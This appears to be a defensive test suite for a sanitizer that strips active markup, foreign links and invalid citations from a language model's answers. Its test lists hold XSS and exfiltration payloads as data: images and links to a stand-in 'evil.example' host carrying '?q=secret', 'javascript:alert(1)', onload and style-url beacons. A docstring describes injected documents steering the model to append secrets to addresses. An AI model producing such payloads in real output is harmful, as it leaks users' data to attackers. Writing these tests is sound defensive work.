"""Text that a model wrote is shown without anything that loads, acts or links to where no passage is."""

from __future__ import annotations

import re
from collections.abc import Collection, Sequence
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from query.answers.model import NumberedPassage
from query.answers.writing import AnswerSanitizer, Findings
from tests.support.portion import portion
from tests.support.query.answers_kit import numbered

SOURCE = "https://wiki.example/a"
PASSAGES = numbered("See https://docs.example/x for more.", "Two.", "Three.", source_url=SOURCE)


def sanitize(text: str, passages: Collection[NumberedPassage] = PASSAGES) -> tuple[str, Findings]:
    writing = AnswerSanitizer(passages)
    return writing.feed(text) + writing.end(), writing.findings


def shown(text: str) -> str:
    return sanitize(text)[0]


def streamed(text: str, sizes: Sequence[int]) -> str:
    """The same text, written in pieces of these sizes, which repeat."""
    writing, out, at, turn = AnswerSanitizer(PASSAGES), "", 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        out += writing.feed(text[at : at + size])
        at, turn = at + size, turn + 1
    return out + writing.end()


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("Yes [1].", "Yes [1]."),
        ("Yes [1, 3][2].", "Yes [1][3][2]."),
        ("Yes [1-3].", "Yes [1][2][3]."),
        ("Yes 【2†source】.", "Yes [2]."),
        ("Yes [9].", "Yes."),
        ("Yes [1, 9].", "Yes [1]."),
        ("`args[7]` and ```\nx[8]\n```", "`args[7]` and ```\nx[8]\n```"),
        ("A list<String> and a < b = c.", "A list<String> and a < b = c."),
        ("`map<string, int> x = y` and <br/>", "`map<string, int> x = y` and <br/>"),
        ("<b onclick=x>", "\u2039b onclick=x>"),
        ("<script>x</script>", "\u2039script>x\u2039/script>"),
        ("Here is the data: 5.", "Here is the data: 5."),
        ("xhttp://evil.example/", "x(address removed)"),
        (f"[the page]({SOURCE})", f"[the page]({SOURCE})"),
        (f"See {SOURCE}.", f"See {SOURCE}."),
        ("[the page](https://evil.example/)", "[the page]"),
        ("[1](https://evil.example/)", "[1]"),
        ("See https://docs.example/x.", "See `https://docs.example/x`."),
        ("See https://docs.example/x?q=secret", "See (address removed)"),
        ("<think>Let me see.</think>\n\nYes [1].", " Yes [1]."),
        ("<think>Let me", " "),
        ("Yes <!-- no --> no", "Yes \u2039!-- no --> no"),
        ("<mailto:eve@evil.example?body=secret [9]>", "\u2039(address removed) >"),
        ("<eve@evil.example>", "(address removed)"),
        ("mailto:eve@evil.example", "(address removed)"),
        ("`curl 'https://docs.example/x'`", "`curl 'https://docs.example/x'`"),
        ("Run\n\n```sh\ncurl https://docs.example/x\n```\n", "Run\n\n```sh\ncurl https://docs.example/x\n```\n"),
        (
            "1. Run\n   ```\n   curl https://docs.example/x\n   ```",
            "1. Run\n   ```\n   curl https://docs.example/x\n   ```",
        ),
        ("`a` https://docs.example/x", "`a` `https://docs.example/x`"),
        ("`a <b` and `c<d>`", "`a \u2039b` and `c<d>`"),
        ("a|b\n-|-\n`|<` https://docs.example/x", "a|b\n-|-\n`|<` (address removed)"),
        ("A lone ` https://docs.example/x", "A lone ` (address removed)"),
        ("A lone ` here.\n\nSee https://docs.example/x", "A lone ` here.\n\nSee `https://docs.example/x`"),
        ("ht[9]tps://evil.example/?q=secret", "ht tps:`//evil.example/?q=secret`"),
        ("www[9].evil.example", "www `.evil.example`"),
        ("https&colon;//evil.example", "https&amp;colon;`//evil.example`"),
        ("` https&colon;//evil.example", "` https&amp;colon;// evil. example"),
        ("`https&colon;//evil.example`", "`https&colon;//evil.example`"),
        (r"https\://evil.example", r"https\\:`//evil.example`"),
        ("See evil.example/?q=secret.", "See `evil.example/?q=secret`."),
        ("Edit src/main.py, then x/y.", "Edit `src/main.py`, then x/y."),
        ("Ask eve@evil.example!", "Ask `eve@evil.example`!"),
        ("A lone ` and secret.evil.com", "A lone ` and secret. evil. com"),
        ("It costs $5, says eve@evil.example", "It costs $5, says eve@evil. example"),
        ("A lone ` and os.path.join", "A lone ` and os.path.join"),
        ("//localhost/x and a // b", "// localhost/x and a // b"),
        ("`//localhost/x` and `main.py`", "`//localhost/x` and `main.py`"),
        (r"evil\.com and 1\. x", r"evil\\.com and 1\. x"),
        (r"\[a](" + SOURCE + ")secret", r"\[a](" + SOURCE + ") secret"),
        ("请看main.py的说明. 版本2.请", "请看`main.py`的说明. 版本2.请"),
        (r"1\. R&amp;D &lt;x>", r"1\. R&amp;D &lt;x>"),
        (f"!![a]({SOURCE})", f"! [a]({SOURCE})"),
        (f"[a]({SOURCE} 'b')", f"[a]({SOURCE})"),
        (f"[a](<{SOURCE}>)", f"[a](<{SOURCE}>)"),
        (f"[a]({SOURCE} https://evil.example/?q=secret)", f"[a]({SOURCE})"),
        (f"[a]({SOURCE}\u00a0secret)", "[a]"),
        (f"<{SOURCE}>secret", f"{SOURCE} secret"),
        (f'{SOURCE}"secret', f'{SOURCE} "secret'),
    ],
)
def test_model_output_is_sanitised(written: str, seen: str) -> None:
    assert shown(written) == seen


def test_citations_and_removed_content_are_counted() -> None:
    _, sanitized = sanitize("A [2]. B [7][1] ![x](https://e.example/?q=1) <img src=x> [2]")
    assert (sanitized.cited, sanitized.bad_citations) == ([2, 1], [7])
    assert sanitized.removed == 3  # the mark of an image, its address, and the element


ACTIVE = [
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/?q=secret)",
    "![a [b] c](//evil.example/?q=secret)",
    "![x](\n//evil.example/?q=secret\n)",
    '![x](//evil.example/ "title (with) marks")',
    "![x][r]\n\n[r]: //evil.example/?q=secret",
    "![r]\n\n  [r]:\n//evil.example/?q=secret",
    "[x](javascript:alert(1))",
    "[x](<//evil.example/ a>)",
    "[x]( //evil.example )",
    "]<!-- -->(//evil.example/)[",
    "[a]<!-- -->(//evil.example/)",
    "[a][9](//evil.example/)",
    "[1][9](//evil.example/)",
    "!<think></think>[a](//evil.example/)",
    "<img src='//evil.example/'>",
    "<IMG\nsrc=//evil.example/>",
    "<svg/onload=alert(1)>",
    "<a href=//evil.example/>x</a>",
    "<https://evil.example/?q=secret>",
    "<javascript:alert(1)>",
    "<https:evil.example/?q=secret<!---->",
    "<https:evil.example/?q=secret<script>",
    "<https:evil.example/?q=secret [9]>",
    "<p <think></think>style='background:url(//evil.example/)'>",
    "<p<think></think> style='background:url(//evil.example/)'>",
    "<p<http://evil.example> style='background:url(//evil.example/)'>",
    "<p](<x>) style='background:url(//evil.example/)'>",
    "<p[9](>) style='background:url(//evil.example/)'>",
    "` ![x](//evil.example/?q=secret)",
    "```not a fence` ![x](//evil.example/?q=secret)",
    "<div style='background:url(//evil.example/)'>x</div>",
    "<div>\n<x_y style='background:url(//evil.example/)'>x</div>",
    "<b<c style='background:url(//evil.example/)'>",
    "<p\nonmouseover=alert(1)>",
    "<p/style=background:url(//evil.example/)>",
    "<div " + "a " * 200 + "style='background:url(//evil.example/)'>",
    "<" + "x" * 400 + " style='background:url(//evil.example/)'>",
    "<img src=//evil.example/",
    "www.evil.example/?q=secret",
    "HTTPS://evil.example/?q=secret",
    "_http://evil.example/?q=secret",
    "[a](x) [b](//evil.example/(nested(deeper)))",
    "[[a]](//evil.example/)",
    r"[a\]b](//evil.example/)",
    r"\![a](//evil.example/)",
    "[a](x)(//evil.example/?q=secret)",
    "`<img ` src=//evil.example/?q=secret>",
    "[a][9](x)(//evil.example/?q=secret)",
    "[1](x)(//evil.example/?q=secret)",
    "<[9]img src=//evil.example/?q=secret>",
]
HARMLESS = frozenset({"class", "start", "title", "alt"})


class _Pointing(HTMLParser):
    """Collects what a browser would act on in a page: addresses that are followed, elements that act, and
    attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.unsafe: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if value is not None and name not in HARMLESS:
                self.unsafe.add(value if (tag, name) == ("a", "href") else f"{tag} {name}={value}")
        if tag in ("script", "style", "iframe", "object", "svg"):
            self.unsafe.add(tag)


def linked_addresses(text: str) -> set[str]:
    """By a Markdown renderer that lets HTML through, and by none."""
    page = _Pointing()
    page.feed(MarkdownIt("commonmark", {"html": True}).render(text))
    page.feed(f"<p>{text}</p>")
    page.close()
    return page.unsafe


@pytest.mark.parametrize("written", ACTIVE)
def test_sanitised_output_loads_nothing_and_links_to_no_foreign_address(written: str) -> None:
    assert linked_addresses(shown(f"Text. {written} more.")) == set()
    assert linked_addresses(shown(written)) == set()


def test_the_active_examples_would_load_or_link_without_sanitising() -> None:
    """So that the test above can fail."""
    assert sum(bool(linked_addresses(written)) for written in ACTIVE) >= 30


PIECES = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    ":",
    " ",
    "=",
    "/",
    "<p ",
    "style=",
    '"',
    "'",
    "\n",
    "`",
    "```",
    "1",
    "9",
    "a",
    "//e.example",
    "https://",
    "http",
    "www.",
    "<img src=x",
    "<!--",
    "-->",
    "<think>",
    "</think>",
    SOURCE,
    "【",
    "†",
    ", ",
    "-",
    "\\",
    "h",
    "ht",
    "\t",
]
TEXTS = st.lists(st.sampled_from(PIECES), max_size=24).map("".join)
SIZES = st.lists(st.integers(1, 5), min_size=1, max_size=8)


@given(TEXTS, SIZES)
def test_streamed_output_is_sanitised_the_same_however_it_is_split(text: str, sizes: list[int]) -> None:
    assert streamed(text, sizes) == shown(text)


@given(TEXTS)
def test_random_markup_links_only_to_sources(text: str) -> None:
    assert linked_addresses(shown(text)) <= {SOURCE}


@given(TEXTS)
def test_only_existing_passages_are_cited(text: str) -> None:
    out, sanitized = sanitize(text)
    prose = re.sub(r"`[^`]*`?", "", out)
    assert {int(n) for n in re.findall(r"(?<!\!)\[(\d+)\]", prose)} <= {1, 2, 3}
    assert set(sanitized.cited) <= {1, 2, 3}


PASSAGE_ADDRESS = "https://docs.example/x"
CODE_PIECES = [
    PASSAGE_ADDRESS,
    f"<{PASSAGE_ADDRESS}>",
    f"[a]({SOURCE} {PASSAGE_ADDRESS})",
    f"[a]({PASSAGE_ADDRESS})",
    SOURCE,
    *(
        "`",
        "``",
        "```",
        "````",
        "~~~",
        "\n",
        "\n",
        "\n\n",
        "\r",
        " ",
        "  ",
        "   ",
        "    ",
        "\t",
        "- ",
        "1. ",
        "> ",
        "a",
    ),
    *(
        "a|b\n-|-\n",
        "|",
        "<div>",
        "</div>",
        "<pre>",
        "</pre>",
        "<!--",
        "-->",
        "<?",
        "?>",
        "\\",
        "[9](x)",
        "<think>",
    ),
    *(
        "</think>",
        "(",
        ")",
        "[",
        "]",
        "<",
        ">",
        "!",
        "*",
        "_",
        '"',
        "# ",
        "=",
        "<p>",
        "<a@b.example>",
        "[1]",
        "www.",
    ),
]
CODE_TEXTS = st.lists(st.sampled_from(CODE_PIECES), max_size=20).map("".join)


def addresses_outside_code(text: str) -> list[str]:
    """Return the addresses, other than the source, that a renderer which makes links of bare addresses would link."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable("table")
    addresses: list[str] = []

    def look_in(words: str) -> None:
        words = words.replace(SOURCE, "")
        addresses.extend(re.findall(r"(?:https?|ftp)://\S+|www\.\S+|(?:mailto|xmpp):\S+", words))

    def look(tokens: Sequence[Token]) -> None:
        words = ""  # of neighbouring texts, entities and escapes
        for token in tokens:
            if token.type in ("text", "text_special"):
                words += token.content
            else:
                look_in(words)
                words = ""
            look(token.children or ())
        look_in(words)

    look(renderer.parse(text))
    return addresses


@settings(max_examples=portion(400))
@given(CODE_TEXTS)
def test_an_address_of_a_passage_is_shown_as_code_alone(text: str) -> None:
    assert addresses_outside_code(shown(text)) == []


@given(CODE_TEXTS, SIZES)
def test_streamed_code_is_sanitised_the_same_however_it_is_split(text: str, sizes: list[int]) -> None:
    assert streamed(text, sizes) == shown(text)


@pytest.mark.parametrize("part", ["1.", "a.", "-.", "_."])
def test_a_text_of_very_many_dots_keeps_nobody_waiting(part: str) -> None:
    """Each of its parts might begin the name of a host. Sanitising these 8,000 characters took a quarter of an hour, in
    which the service answered nobody: then this test never ends."""
    assert shown(part * 4_000) == part * 4_000


def test_an_address_without_end_keeps_nobody_waiting_for_its_pieces() -> None:
    """The whole of it was searched for names at each piece: 8,000 characters took ten seconds, and these take more than
    this test may."""
    writing, text = AnswerSanitizer(PASSAGES), "www." * 20_000
    assert "www" not in "".join(writing.feed(text[at : at + 4]) for at in range(0, len(text), 4)) + writing.end()


@pytest.mark.parametrize(
    "name",
    [
        "x" + ".a" * 40 + ".evil.com",
        "evil.com" + ".a" * 40,
        "a." * 200 + "evil.com/?q=secret",
        "x" + ".a" * 40 + ".com_evil.org/?q=secret",
        "x" + ".a" * 40 + ".com-a.evil.org/?q=secret",
    ],
)
def test_a_host_of_very_many_parts_is_shown_as_code(name: str) -> None:
    bare = "".join(shown(name).split("`")[::2])
    assert "evil" not in bare
    assert "secret" not in bare


@pytest.mark.parametrize(
    "address",
    [
        "evil.com/www&#46;evil&#46;com/?q=secret",
        "evil.com?www&period;evil&period;com/?q=secret",
        "evil.com/a&commat;evil&period;com",
        "e@evil.com/www&#46;evil&#46;com/?q=secret",
        "x" + ".a" * 20 + ".b1/www&#46;evil&#46;com/?q=secret",
        "evil.com/" + "a" * 3_996 + "www&#46;evil.com",
    ],
)
def test_no_entity_of_an_address_is_read_where_code_is_uncertain(address: str) -> None:
    """Renderers look for addresses after they have read entities."""
    assert not re.search(r"(?:www|@|evil)\.\w", unescape(shown(f"a`b {address}")))


@pytest.mark.parametrize("address", ["//docs.example/x", "docs.example/x?", "docs.example/x#"])
def test_what_follows_an_address_of_a_passage_is_no_part_of_a_link_where_code_is_uncertain(address: str) -> None:
    """A document may hold the beginning of an address, and make the model write a secret after it."""
    assert "docs.example" not in shown(f"a`b {address}'secret")


def test_a_line_of_a_file_that_a_passage_names_is_shown_where_code_is_uncertain() -> None:
    """It became ``main. py:30``."""
    passages = numbered("The error is in src/main.py:30:5 and src/main.py:41.")
    assert sanitize("a`b src/main.py:30:5 src/main.py:41", passages)[0] == "a`b src/main.py:30:5 src/main.py:41"
    assert (
        sanitize("a`b src/main.py:30 src/main.py:41/secret", passages)[0] == "a`b src/main.py:30 src/main. py:41/secret"
    )


def test_streamed_words_are_passed_on_with_the_next_word_at_the_latest() -> None:
    writing = AnswerSanitizer(PASSAGES)
    assert [writing.feed(piece) for piece in ("The ", "answer", " is", " five", ".", " [1", "]", " And")] == [
        *("The", " ", "answer ", "is ", "", "five.", "", " [1] "),
    ]
